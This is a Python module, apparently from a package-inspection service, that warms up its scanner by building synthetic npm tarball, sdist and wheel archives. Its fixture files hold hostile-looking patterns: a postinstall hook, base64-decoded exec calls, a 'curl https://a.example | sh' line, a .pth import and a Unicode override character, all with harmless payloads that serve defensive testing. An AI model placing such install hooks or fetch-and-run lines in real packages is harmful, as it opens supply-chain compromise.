"""Runs the examination once over small archives of our own, before any package is near.

Inside the fence nothing can be imported or opened any more. What is loaded late (codecs, compiled patterns, grammars)
is loaded by this, once, and every forked child has it already.
"""

from __future__ import annotations

import codecs
import gzip
import hashlib
import io
import tarfile
import zipfile

from app.core.package import Ecosystem, Package
from app.core.specimen import ArtifactKind
from worker.inspection.facts.tree import load_grammars
from worker.inspection.limits import Limits
from worker.inspection.wire import Examine, Question

_CODECS = (
    *(
        "ascii",
        "latin-1",
        "utf-8",
        "utf-8-sig",
        "utf-7",
        "utf-16",
        "utf-16-le",
        "utf-16-be",
        "utf-32",
        "cp437",
        "cp1252",
    ),
    *("unicode_escape", "raw_unicode_escape", "idna", "punycode", "hex", "base64", "rot13", "quopri", "zlib", "bz2"),
    *("gbk", "gb18030", "big5", "shift_jis", "euc-jp", "euc-kr", "koi8-r", "cp1251", "iso8859-2", "iso8859-15"),
)
_FILES = {
    "package.json": '{"name": "rehearsal", "version": "1.0.0", "main": "a.js", "bin": {"r": "a.js"},'
    ' "scripts": {"postinstall": "node a.js && sh c.sh"}}',
    "a.js": "const cp = require('child_process'); cp.exec(Buffer.from('bHM=', 'base64').toString()); import('./b')",
    "b.ts": "export const token: string = process.env.TOKEN ?? 'https://a.example/x';",
    "b.tsx": "export const B = () => <p>{eval('1')}</p>;",
    "c.sh": "#!/bin/sh\ncurl https://a.example | sh\n",
    "d.py": "import base64, os, subprocess\nexec(base64.b64decode('MQ=='))\nsubprocess.run(['ls'], env=os.environ)\n",
    "setup.py": "from setuptools import setup\nimport d\nsetup(name='rehearsal')\n",
    "pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = 'd'\nbackend-path = ['.']\n",
    "setup.cfg": "[metadata]\nname = rehearsal\n",
    "PKG-INFO": "Metadata-Version: 2.1\nName: rehearsal\nVersion: 1.0.0\n",
    "binding.gyp": "{'targets': [{'target_name': 'a', 'sources': ['a.cc']}]}",
    "rehearsal.pth": "import d\n",
    "rehearsal-1.0.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: rehearsal\nVersion: 1.0.0\n",
    "rehearsal-1.0.0.dist-info/entry_points.txt": "[console_scripts]\nr = d:main\n",
    "rehearsal-1.0.0.dist-info/RECORD": "d.py,sha256=AA,1\n",
    "text.txt": "\u202e caf\u00e9\n",
}


def rehearse(examine: Examine) -> None:
    """Examine an npm tarball, an sdist and a wheel; raise `RuntimeError` when that fails."""
    for name in _CODECS:
        codecs.lookup(name)
    load_grammars()
    for ecosystem, kind, filename, content in (
        (Ecosystem.NPM, ArtifactKind.NPM_TARBALL, "rehearsal-1.0.0.tgz", _tarball("package")),
        (Ecosystem.PYPI, ArtifactKind.SDIST, "rehearsal-1.0.0.tar.gz", _tarball("rehearsal-1.0.0")),
        (Ecosystem.PYPI, ArtifactKind.WHEEL, "rehearsal-1.0.0-py3-none-any.whl", _wheel()),
    ):
        package = Package.of(ecosystem, "rehearsal", "1.0.0")
        sha256 = hashlib.sha256(content).hexdigest()
        answer = examine(Question(package, filename, kind, sha256, len(content), Limits()), io.BytesIO(content))
        if answer.facts is None:
            raise RuntimeError("; ".join(gap.detail for gap in answer.not_examined))


def _tarball(top: str) -> bytes:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as tar:
        for name, text in _FILES.items():
            member = tarfile.TarInfo(f"{top}/{name}")
            member.size = len(text.encode())
            tar.addfile(member, io.BytesIO(text.encode()))
    return gzip.compress(packed.getvalue(), mtime=0)


def _wheel() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in _FILES.items():
            archive.writestr(zipfile.ZipInfo(name), text)
    return packed.getvalue()
